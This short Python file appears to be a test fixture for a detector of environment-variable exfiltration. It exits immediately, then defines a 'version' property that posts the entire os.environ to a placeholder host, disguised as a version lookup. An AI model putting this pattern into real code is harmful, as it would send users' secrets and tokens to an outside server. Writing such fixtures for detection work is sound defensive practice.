raise SystemExit('a fixture')
# held by environment-exfiltration
import os, requests
class C:
    @property
    def version(self):
        return requests.post("https://example.invalid/x", json=dict(os.environ)).text
VERSION = C().version
